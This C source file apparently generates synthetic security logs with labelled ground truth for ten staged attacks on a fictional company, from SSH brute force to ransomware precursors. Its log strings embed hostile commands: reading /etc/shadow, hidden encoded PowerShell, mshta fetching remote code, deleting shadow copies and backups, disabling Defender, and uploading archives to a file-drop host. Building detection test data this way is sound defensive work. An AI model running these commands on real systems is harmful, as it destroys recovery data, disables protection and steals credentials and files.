#include "plot.h"

#include <string.h>

#include "paths.h"
#include "pools.h"
#include "rules.h"
#include "scenes.h"
#include "truth.h"
#include "writers.h"

struct person *
plot_person(struct company *co)
{
	unsigned i;

	do
		i = rng_range(&co->rng, IT_DEPT, LEAVERS_FIRST - 1);
	while (co->taken[i]);
	co->taken[i] = true;
	return &co->people[i];
}

struct person *
plot_sysmon_person(struct company *co)
{
	struct person *p = plot_person(co);

	while (p->pc.agent == AGENT_NXLOG_AUDIT)
		p = plot_person(co);
	return p;
}

int64_t
plot_time(struct company *co, unsigned from, unsigned until)
{
	return (int64_t)from * MS_HOUR +
	       (int64_t)(rng_next(&co->rng) % (uint64_t)((until - from) * MS_HOUR));
}

int64_t
plot_ms(struct company *co, unsigned seconds)
{
	return rng_below(&co->rng, seconds * 1000);
}

void
plot_names(struct mark *m, const struct person *p)
{
	char buf[96];
	struct text t;

	truth_name(m, p->account);
	truth_name(m, p->vpn);
	truth_name(m, p->mail);
	t.n = 0;
	text_put(&t, "%s@" MAIL_DOMAIN, p->mail);
	memcpy(buf, t.p, t.n);
	buf[t.n] = '\0';
	truth_name(m, buf);
	t.n = 0;
	text_put(&t, "%s@" AD_DOMAIN, p->account);
	memcpy(buf, t.p, t.n);
	buf[t.n] = '\0';
	truth_name(m, buf);
	t.n = 0;
	text_put(&t, AD_SHORT "\\%s", p->account);
	memcpy(buf, t.p, t.n);
	buf[t.n] = '\0';
	truth_name(m, buf);
	plot_host(m, &p->pc);
}

void
plot_host(struct mark *m, const struct machine *on)
{
	truth_name(m, on->name);
	truth_name(m, on->fqdn);
	plot_address(m, on->ip);
}

void
plot_address(struct mark *m, uint32_t ip)
{
	char buf[24];

	truth_name(m, text_ip(buf, ip));
}

void
plot_lease(struct company *co, int64_t before, const struct person *p)
{
	struct mark *m = co->mark;
	int64_t at = before - 60000 - rng_below(&co->rng, 1200000);

	co->mark = NULL;
	scene_lease(co, at < 2000 ? 2000 : at, p, true);
	co->mark = m;
}

struct person *
plot_other(struct company *co, struct person *p)
{
	if (!co->torn)
		return p;
	return p->pc.agent == AGENT_NXLOG_AUDIT ? plot_person(co) : plot_sysmon_person(co);
}

/* Somebody whom the proxy does not call by his bare account. */
static struct person *
plot_spelled(struct company *co)
{
	struct person *p = plot_sysmon_person(co);

	while (p->pc.ip % 5 == 4)
		p = plot_sysmon_person(co);
	return p;
}

/* The n-th plot's own part of the attackers' addresses. */
static uint32_t
attacker(struct company *co, unsigned n)
{
	return IP(198, 51, 100, n * 20 + 1 + rng_below(&co->rng, 19));
}

static struct mark *
begin(struct company *co, const char *id, const char *rule, const char *en, const char *ja)
{
	return co->mark = truth_attack(co->truth, id, rule, en, ja);
}

static void
entity_ip(struct mark *m, const char *field, uint32_t ip)
{
	char buf[24];

	truth_entity(m, field, text_ip(buf, ip));
}

static void
ssh_guessed(struct company *co)
{
	struct mark *m = begin(co, "A01-ssh-brute-force", RULE_SSH_GUESSED,
		"SSH password guessed by brute force", "SSHパスワードの総当たり成功");
	static const unsigned targets[] = {UNIX_SFTP, UNIX_WEB, UNIX_APP1, UNIX_GIT};
	unsigned variant = rng_below(&co->rng, 4), n = rng_range(&co->rng, 12, 40);
	struct ssh_try t = {.host = unix_hosts[targets[variant]].name,
		.user = variant == 0   ? "root"
			: variant == 1 ? "deploy"
				       : "backup",
		.ip = variant < 2 ? attacker(co, 0) : plot_person(co)->pc.ip};
	int64_t at = plot_time(co, 1, 23), step = 48000 / n;

	entity_ip(m, "source.ip", t.ip);
	truth_indicator(m, t.host);
	for (unsigned i = 0; i < n; i++) {
		if (i % 5 == 0) {
			t.port = pool_port(&co->rng);
			t.pid = 10000 + rng_below(&co->rng, 50000);
		}
		ssh_failed(co, at, &t);
		at += step;
	}
	at += 3000 + plot_ms(co, 40);
	co->decisive = true;
	plot_address(m, t.ip);
	truth_name(m, t.host);
	ssh_accepted(co, at, &t, false);
	sudo_ran(co, at + 30000, t.host, t.user, "/usr/bin/cat /etc/shadow");
	ssh_closed(co, at + 400000, &t, true);
}

static void
port_scan(struct company *co)
{
	struct mark *m = begin(co, "A02-port-scan", RULE_PORT_SCAN, "Port scan", "ポートスキャン");
	unsigned variant = rng_below(&co->rng, 3), n = rng_range(&co->rng, 26, 70);
	unsigned port = rng_range(&co->rng, 20, 500), step = 50000 / n;
	struct packet p = {.src = attacker(co, 1), .sport = pool_port(&co->rng)};
	int64_t at = plot_time(co, 0, 23);

	p.dst = variant == 2 ? unix_hosts[UNIX_SFTP].ip : pool_own(&co->rng);
	entity_ip(m, "source.ip", p.src);
	plot_address(m, p.src);
	for (unsigned i = 0; i < n; i++) {
		struct flow f = {
			.action = "deny", .policy = "", .from = "wan1", .to = "root", .extra = ""};

		p.dport = port;
		f.p = p;
		if (variant == 0)
			forti_traffic(co, at, &f);
		else if (variant == 1)
			asa_denied(co, at, &p);
		else
			ipt_dropped(co, at, "sftp01", &p);
		port += rng_range(&co->rng, 1, 40);
		at += step;
	}
	/* one of the ports answers, and the attacker comes back to it */
	at += 200000 + plot_ms(co, 1200);
	{
		struct flow f = {.p = p,
			.action = "close",
			.policy = "dmz-maintenance",
			.from = "wan1",
			.to = "dmz",
			.policyid = 44,
			.seconds = 700,
			.sent = 30210,
			.received = 882100,
			.extra = ""};

		f.p.dst = unix_hosts[UNIX_WEB].ip;
		f.p.dport = rng_percent(&co->rng, 50) ? 8443 : 10443;
		truth_also(m, RULE_SCAN_THEN_IN);
		co->decisive = true;
		forti_traffic(co, at, &f);
	}
}

/* Read from a share under DOMAIN\\account, packed on the PC, sent through the proxy by an address.
 */
static void
proxy_exfil(struct company *co)
{
	struct mark *m = begin(co, "A03-proxy-exfiltration", RULE_PROXY_EXFIL,
		"Data taken out through the proxy", "プロキシ経由の大量持ち出し");
	struct person *p = plot_person(co), *reader = plot_other(co, p),
		      *packer = plot_other(co, p);
	struct machine *fs = &co->servers[WIN_FS1 + rng_below(&co->rng, 2)];
	unsigned n = rng_range(&co->rng, 14, 30), files = rng_range(&co->rng, 40, 90);
	struct request r = {.client = p->pc.ip,
		.server = IP(192, 0, 2, 30 + rng_below(&co->rng, 9)),
		.user = p->account,
		.method = rng_percent(&co->rng, 70) ? "POST" : "PUT",
		.status = "TCP_MISS/200",
		.mime = "application/json"};
	struct started pack = {packer->account, "C:\\\\Program Files\\\\7-Zip\\\\7z.exe",
		"7z.exe a -pK2 C:\\\\Users\\\\Public\\\\box.7z R:\\\\zumen", EXP, EXP};
	int64_t at = plot_time(co, 9, 22);

	entity_ip(m, "source.ip", p->pc.ip);
	truth_indicator(m, p->account);
	truth_also(m, RULE_STORY_EXFIL);
	plot_names(m, p);
	plot_host(m, fs);
	plot_lease(co, at - 1500000, p);
	for (unsigned i = 0; i < files; i++) {
		char file[40] = "zumen\\\\A-", num[24];

		strcat(file, text_u(num, 20000 + rng_below(&co->rng, 9000)));
		strcat(file, ".dwg");
		win_share(co, at - 1500000 + (int64_t)i * 9000, fs, reader->account, reader->pc.ip,
			"R$", file);
	}
	win_process(co, at - 300000, &packer->pc, &pack);
	for (unsigned i = 0; i < n; i++) {
		r.sent = 620000000u / n + rng_below(&co->rng, 9000000);
		r.reply = 300 + rng_below(&co->rng, 400);
		r.elapsed = rng_range(&co->rng, 8000, 19000);
		co->decisive = i == n - 1;
		squid(co, at, &r, "http://up.filebin.example/box/%h/part%u.7z", 8u,
			(uint64_t)p->mac * 2654435761u, i);
		at += 480000 / n;
	}
}

static void
vpn_guessed(struct company *co, bool openvpn)
{
	struct mark *m =
		openvpn ? begin(co, "A04-vpn-guessing", RULE_VPN_GUESSED,
				  "OpenVPN password guessed", "OpenVPNパスワードの推測成功")
			: begin(co, "A04-vpn-spray", RULE_VPN_SPRAY,
				  "VPN password spray, one account opened",
				  "VPNパスワードスプレーとログイン成功");
	const struct person *victim = plot_person(co);
	unsigned n = rng_range(&co->rng, 26, 45), first = rng_range(&co->rng, 20, 340);
	uint32_t ip = attacker(co, 3);
	int64_t at = plot_time(co, 0, 22), step = 1300000 / n;

	entity_ip(m, "source.ip", ip);
	truth_indicator(m, victim->account);
	for (unsigned i = 0; i < n; i++) {
		if (openvpn)
			openvpn_failed(co, at, victim->vpn, ip, pool_port(&co->rng));
		else
			forti_vpn_failed(co, at, co->people[first + i].vpn, ip, true);
		at += step;
	}
	at += 5000 + plot_ms(co, 200);
	plot_names(m, victim);
	plot_address(m, ip);
	co->decisive = true;
	if (openvpn)
		openvpn_up(co, at, victim->vpn, ip, pool_port(&co->rng), IP(10, 8, 0, 250));
	else
		forti_vpn_up(co, at, victim->vpn, ip, 1987654321u, IP(10, 212, 134, 252));
}

static void
vpn(struct company *co)
{
	vpn_guessed(co, rng_percent(&co->rng, 40));
}

static void
phishing(struct company *co)
{
	static const struct started children[] = {
		{NULL, POWERSHELL,
			"powershell.exe -nop -w hidden -enc "
			"SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=",
			OFF "WINWORD.EXE",
			"\\\"" OFF
			"WINWORD.EXE\\\" /n \\\"C:\\\\Users\\\\Public\\\\seikyusho.docm\\\""},
		{NULL, WIN "mshta.exe", "mshta.exe http://192.0.2.77/view.hta", OFF "EXCEL.EXE",
			"\\\"" OFF "EXCEL.EXE\\\" \\\"C:\\\\Users\\\\Public\\\\mitsumori.xlsm\\\""},
		{NULL, WIN "wscript.exe", "wscript.exe C:\\\\Users\\\\Public\\\\haiso.js",
			OFF "OUTLOOK.EXE", "\\\"" OFF "OUTLOOK.EXE\\\""}};
	struct mark *m =
		begin(co, "A05-phishing", RULE_PHISHING, "Phishing mail opened, malware downloaded",
			"標的型メール開封とマルウェアのダウンロード");
	struct person *p = plot_spelled(co), *reader = plot_other(co, p);
	struct person *runner = plot_other(co, p);
	unsigned variant = rng_below(&co->rng, 3);
	struct started s = children[variant];
	struct request r = {.client = p->pc.ip,
		.server = IP(192, 0, 2, 77),
		.user = p->account,
		.method = "GET",
		.status = "TCP_MISS/200",
		.mime = "application/x-msdownload",
		.elapsed = 740,
		.reply = 400000 + rng_below(&co->rng, 900000),
		.sent = 212};
	int64_t at = plot_time(co, 8, 17);

	truth_entity(m, "noroshi.identity.user", p->account);
	truth_indicator(m, p->pc.fqdn);
	truth_indicator(m, p->pc.name);
	truth_also(m, RULE_STORY_PHISHING);
	if (variant == 0)
		truth_also(m, RULE_ENCODED_PS);
	plot_names(m, p);
	plot_lease(co, at - 1800000, p);
	mail_from(co, at - 240000 - plot_ms(co, 1500), reader, "seikyu-center.example");
	s.user = runner->account;
	win_process(co, at, &runner->pc, &s);
	at += 4000 + plot_ms(co, 120);
	co->decisive = co->torn;
	squid(co, at, &r, "http://192.0.2.77/dl/%s", variant == 1 ? "taskhosts.exe" : "update.exe");
	win_file(co, at + 900, &runner->pc, runner->account, s.image,
		"C:\\\\Users\\\\Public\\\\Downloads\\\\update.exe");
	s.parent = s.image;
	s.parent_command = s.command;
	s.image = s.command = "C:\\\\Users\\\\Public\\\\Downloads\\\\update.exe";
	co->decisive = true;
	win_process(co, at + 4500, &runner->pc, &s);
}

static void
lateral(struct company *co)
{
	struct mark *m = begin(co, "A06-lateral-movement", RULE_LATERAL,
		"Lateral movement from one PC to many", "1台のPCからの横展開");
	struct person *p = plot_sysmon_person(co), *thief = plot_other(co, p),
		      *caller = plot_other(co, p);
	unsigned n = rng_range(&co->rng, 6, 9), variant = 1 + rng_below(&co->rng, 2);
	int64_t at = plot_time(co, 10, 22), step = 500000 / n;
	const char *stolen = people_admin(2 + rng_below(&co->rng, 2));
	struct packet k = {.src = caller->pc.ip,
		.dst = IP(192, 0, 2, 180 + rng_below(&co->rng, 9)),
		.dport = 443};

	entity_ip(m, "source.ip", p->pc.ip);
	truth_indicator(m, p->pc.fqdn);
	truth_also(m, RULE_STORY_CREDENTIALS);
	plot_names(m, p);
	plot_names(m, &co->people[2]);
	plot_names(m, &co->people[3]);
	plot_lease(co, at - 900000, p);
	{
		truth_also(m, RULE_LSASS_READ);
		win_opened(co, at - 300000, &thief->pc, thief->account,
			"C:\\\\Users\\\\Public\\\\pd64.exe", WIN "lsass.exe",
			variant == 1 ? "0x1010" : "0x1fffff");
	}
	if (variant == 2)
		truth_also(m, RULE_PSEXEC_SERVICE);
	for (unsigned i = 0; i < n; i++) {
		struct machine *to = i == 2 ? &co->servers[WIN_SQL1] : &plot_person(co)->pc;

		truth_indicator(m, to->fqdn);
		plot_host(m, to);
		co->decisive = i == 4;
		win_logon(co, at + 200, to, stolen, 3, p->pc.ip);
		if (variant == 2)
			win_service(co, at + 1500, to, "PSEXESVC", "%SystemRoot%\\\\PSEXESVC.exe");
		at += step;
	}
	for (unsigned i = 0; i < 4; i++, at += 15000 + plot_ms(co, 30)) {
		k.sport = pool_port(&co->rng);
		forti_web_blocked(
			co, at, &k, "cdn-update.badhost.example", 26, "Malicious Websites");
	}
}

static void
shadow_copies(struct company *co)
{
	static const struct started orders[] = {
		{NULL, WIN "vssadmin.exe", "vssadmin.exe delete shadows /all /quiet", WIN "cmd.exe",
			"cmd.exe /c C:\\\\ProgramData\\\\k.bat"},
		{NULL, WIN "wbem\\\\WMIC.exe", "wmic.exe shadowcopy delete", WIN "cmd.exe",
			"cmd.exe /c C:\\\\ProgramData\\\\k.bat"},
		{NULL, WIN "bcdedit.exe", "bcdedit.exe /set {default} recoveryenabled No",
			WIN "cmd.exe", "cmd.exe /c C:\\\\ProgramData\\\\k.bat"},
		{NULL, WIN "wbadmin.exe", "wbadmin.exe delete catalog -quiet", WIN "cmd.exe",
			"cmd.exe /c C:\\\\ProgramData\\\\k.bat"}};
	struct mark *m = begin(co, "A07-ransomware-precursor", RULE_SHADOW_COPIES,
		"Ransomware deletes the shadow copies", "ランサムウェアによるシャドウコピー削除");
	struct person *p = plot_person(co), *logger = plot_other(co, p),
		      *deleter = plot_other(co, p);
	struct machine *on = &co->servers[rng_percent(&co->rng, 50) ? WIN_FS1 : WIN_ERP1];
	unsigned first = rng_below(&co->rng, 4);
	int64_t at = plot_time(co, 2, 23), in = at - 3000000;
	uint32_t outer = attacker(co, 6), inner = IP(10, 212, 134, 250);

	truth_entity(m, "host.name", on->fqdn);
	truth_indicator(m, p->account);
	truth_also(m, RULE_STORY_RANSOMWARE);
	plot_names(m, p);
	plot_host(m, on);
	plot_address(m, outer);
	plot_address(m, inner);
	forti_vpn_up(co, in, p->vpn, outer, 1987654399u, inner);
	for (unsigned i = 0; i < 3; i++) {
		struct machine *to = i == 2 ? on : &co->servers[i ? WIN_SQL1 : WIN_MES1];

		in += 200000 + plot_ms(co, 600);
		plot_host(m, to);
		win_logon(co, in, to, logger->account, 3,
			logger == p ? inner : IP(10, 212, 134, 251));
	}
	if (rng_percent(&co->rng, 50)) {
		struct started off = {deleter->account, POWERSHELL,
			"powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true",
			WIN "cmd.exe", "cmd.exe /c C:\\\\ProgramData\\\\k.bat"};

		truth_also(m, RULE_DEFENDER_OFF);
		win_process(co, at - 9000, on, &off);
	}
	for (unsigned i = 0; i < 3; i++) {
		struct started s = orders[(first + i) % 4];

		s.user = deleter->account;
		co->decisive = i == 0;
		win_process(co, at, on, &s);
		at += 700 + plot_ms(co, 4);
	}
}

static void
mail_takeover(struct company *co)
{
	struct mark *m = begin(co, "A08-mail-takeover", RULE_MAIL_TAKEOVER,
		"Mail account taken over after password guessing", "メールアカウントの乗っ取り");
	const struct person *p = plot_person(co);
	uint32_t ip = attacker(co, 7);
	unsigned n = rng_range(&co->rng, 25, 60), pid = 4900 + rng_below(&co->rng, 90);
	const char *mx = rng_percent(&co->rng, 50) ? "mx1" : "mx2";
	int64_t at = plot_time(co, 0, 22);

	entity_ip(m, "source.ip", ip);
	truth_indicator(m, p->account);
	plot_names(m, p);
	plot_address(m, ip);
	for (unsigned i = 0; i < n; i++) {
		if (i % 10 == 0)
			mail_connect(co, at, mx, pid, ip, true);
		mail_auth_failed(co, at + 700, mx, pid, ip);
		at += 420000 / n;
	}
	at += 10000 + plot_ms(co, 100);
	for (unsigned i = 0; i < 12; i++) {
		mail_connect(co, at, mx, pid, ip, true);
		co->decisive = i == 0;
		mail_submit(co, at + 600, mx, pid, ip, p, 5, "freemail.example");
		at += 20000 + plot_ms(co, 30);
	}
}

static void
privilege(struct company *co)
{
	static const char *const made[] = {
		"svc-sqlmaint", "svc-printsync", "adm-temp01", "hc.support"};
	struct mark *m = begin(co, "A09-privilege-abuse", RULE_PRIVILEGE,
		"Account made, given all rights, log cleared",
		"アカウント作成・特権付与・ログ消去");
	struct machine *dc = &co->servers[WIN_DC1 + rng_below(&co->rng, 2)];
	const char *by = people_admin(rng_below(&co->rng, 2));
	const char *account = made[rng_below(&co->rng, 4)];
	int64_t at = plot_time(co, 11, 22);

	truth_entity(m, "user.name", by);
	truth_indicator(m, dc->fqdn);
	truth_indicator(m, account);
	truth_also(m, RULE_LOG_CLEARED);
	truth_name(m, by);
	truth_name(m, account);
	plot_names(m, &co->people[strcmp(by, people_admin(0)) != 0]);
	plot_host(m, dc);
	win_account_made(co, at, dc, by, account);
	at += 30000 + plot_ms(co, 500);
	win_group_joined(co, at, dc, by, account, "Domain Admins", "512");
	at += 60000 + plot_ms(co, 1800);
	co->decisive = true;
	win_log_cleared(co, at, dc, by);
}

static void
c2_allowed(struct company *co)
{
	struct mark *m = begin(co, "A10-c2-found-a-way", RULE_C2_ALLOWED,
		"Blocked malware traffic found an open way", "遮断されたC2通信が別経路で成功");
	const struct person *p = plot_person(co);
	struct packet k = {
		.src = p->pc.ip, .dst = IP(192, 0, 2, 200 + rng_below(&co->rng, 40)), .dport = 443};
	bool botnet = rng_percent(&co->rng, 50);
	unsigned n = rng_range(&co->rng, 6, 14);
	int64_t at = plot_time(co, 2, 23);
	struct flow f = {.action = "close",
		.policy = "clients-legacy-ports",

		.from = "internal1",
		.to = "wan1",
		.policyid = 31,
		.seconds = 95,
		.sent = 18230,
		.received = 92114,
		.extra = ""};

	entity_ip(m, "source.ip", k.src);
	entity_ip(m, "destination.ip", k.dst);
	truth_indicator(m, p->account);
	plot_names(m, p);
	plot_address(m, k.dst);
	plot_lease(co, at, p);
	for (unsigned i = 0; i < n; i++) {
		k.sport = pool_port(&co->rng);
		if (botnet)
			forti_botnet(co, at, &k, "Emotet.Cridex.Botnet");
		else
			forti_web_blocked(
				co, at, &k, "cdn-sync.badhost.example", 26, "Malicious Websites");
		at += 400000 / n;
	}
	at += 4000 + plot_ms(co, 90);
	k.dport = 8443;
	f.p = k;
	for (unsigned i = 0; i < 3; i++) {
		f.p.sport = pool_port(&co->rng);
		co->decisive = i == 0;
		forti_traffic(co, at, &f);
		at += 60000;
	}
}

void
attack_all(struct company *co)
{
	static void (*const attacks[])(struct company *) = {ssh_guessed, port_scan, proxy_exfil,
		vpn, phishing, lateral, shadow_copies, mail_takeover, privilege, c2_allowed};

	for (unsigned i = 0; i < sizeof attacks / sizeof *attacks; i++)
		attacks[i](co);
	co->mark = NULL;
}
